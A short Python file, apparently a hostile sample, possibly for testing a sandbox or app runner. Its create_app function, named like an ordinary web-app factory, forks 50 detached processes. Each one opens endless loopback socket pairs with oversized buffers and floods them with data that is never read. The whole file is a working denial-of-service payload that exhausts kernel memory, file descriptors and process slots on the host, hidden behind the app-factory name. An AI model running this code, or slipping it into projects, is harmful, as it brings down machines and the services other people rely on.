"""Connects to itself, writes, and never reads."""

import contextlib
import os
import socket
import time


def fill():
    held = []
    with contextlib.suppress(OSError):
        listener = socket.create_server(("127.0.0.1", 0), backlog=100)
        while True:
            ends = socket.create_connection(listener.getsockname()), listener.accept()[0]
            held += ends
            for end in ends:
                end.setblocking(False)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2**30)
                with contextlib.suppress(OSError):
                    while True:
                        end.send(b"x" * 2**20)
    time.sleep(60)


def create_app(config=None):
    for _ in range(50):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os.setsid()
                fill()
    time.sleep(60)
